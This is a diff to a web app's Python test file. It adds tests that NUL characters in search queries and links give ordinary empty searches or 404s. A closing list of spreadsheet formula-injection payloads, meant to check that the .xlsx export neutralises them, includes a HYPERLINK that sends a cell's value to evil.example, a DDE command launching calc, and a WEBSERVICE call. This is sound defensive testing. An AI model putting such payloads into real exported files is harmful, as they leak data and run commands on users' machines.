@@ -79,6 +79,25 @@ def test_audit_search_treats_percent_and_underscore_literally(app, tmp_path):
         assert "message:1" not in page, wildcard
 
 
+def test_audit_search_for_a_control_character_is_an_empty_search_not_maintenance(app):
+    """PostgreSQL refuses a NUL in a parameter; the page must not answer "under maintenance" for one."""
+    add_staff(app, "office", StaffRole.OFFICE, None)
+    page = sign_in_staff(app, "office").get("/staff/audit", query_string={"q": "message\x00"})
+    assert page.status_code == 200 and 'value="message"' in page.get_data(as_text=True)
+
+
+def test_a_deputys_message_search_for_a_control_character_is_a_search_not_maintenance(app, tmp_path):
+    deputy, _ = _signed_in_deputy(app, tmp_path)
+    _messages(app, [deputies(app)[0]["id"]], ["幸福小区门口的路灯坏了"])
+    page = deputy.get("/deputy/messages", query_string={"q": "路灯\x00", "topic": "\x00"})
+    assert page.status_code == 200 and "幸福小区门口的路灯坏了" in page.get_data(as_text=True)
+
+
+def test_a_link_holding_a_nul_is_a_link_that_does_not_exist_not_maintenance(app):
+    client = app.test_client()
+    assert client.get("/c/%00").status_code == client.get("/c/no-such-link").status_code == 404
+
+
 # --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
             "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
